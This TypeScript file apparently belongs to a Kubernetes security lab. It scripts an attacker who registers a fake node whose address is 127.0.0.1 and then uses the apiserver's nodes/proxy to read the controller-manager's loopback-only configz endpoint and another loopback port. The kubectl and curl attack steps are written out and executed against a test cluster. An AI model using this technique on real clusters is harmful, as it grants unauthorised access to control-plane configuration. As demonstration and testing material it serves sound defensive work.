import { addresses } from '../addresses';
import { curl } from './curl';
import { makeFalseNode } from './false-node';
import { openLoopbackPort } from './loopback-port';
import { playOf } from './play';

/**
 * attacker ── nodes/edge-9/proxy ──► apiserver ── as kube-apiserver-kubelet-client ──► 127.0.0.1:10257 of the control plane
 */
export const nodeAddressOnLoopback = playOf({
  steps: [
    'admin: kube-controller-manager --bind-address=127.0.0.1',
    'attacker: curl -k https://10.0.0.10:10257/configz',
    'admin: kubectl create clusterrole node-operator --verb=create,get,list --resource=nodes  # and get nodes/proxy',
    'attacker: kubectl create -f edge-9.yaml  # status.addresses: 127.0.0.1, kubeletEndpoint.Port: 10257',
    'attacker: kubectl get --raw /api/v1/nodes/edge-9:9100/proxy/',
    'attacker: kubectl get --raw /api/v1/nodes/edge-9/proxy/configz',
  ],
  async play(stage) {
    const { signal } = stage;
    const cluster = await stage.cluster();
    const word = `CONFIG-${stage.random.hex(6)}`;
    const configz = { 'kubecontrollermanager.config.k8s.io': { ClusterName: word } };
    const port = stage.closeLater(await openLoopbackPort(cluster, configz));
    const listening = `127.0.0.1:${port.port} of the control plane`;
    await stage.did(
      'admin',
      'kube-controller-manager --bind-address=127.0.0.1',
      `listens at ${listening} only`,
    );

    const url = `https://${addresses.controlPlane}:${port.port}/configz`;
    const outside = await curl(cluster.attackerHost, url, { signal });
    if (outside.ok) throw new Error('the port is open to the network');
    await stage.did('attacker', `curl -k ${url}`, outside.words);

    await using node = await makeFalseNode(stage, cluster, port);
    const other = await node.get('/', 9100);
    if (other.answer.ok)
      await stage.gained('attacker', other.did, other.answer.body.toString('utf8'), 'another loopback port');
    else await stage.refused('attacker', other.did, other.answer.words);

    const { did, answer } = await node.get('/configz');
    const text = answer.body.toString('utf8');
    if (text.includes(word)) {
      await stage.gained(
        'attacker',
        did,
        text,
        'the configuration of the controller-manager, from its loopback port',
      );
    } else await stage.refused('attacker', did, answer.words);
  },
});
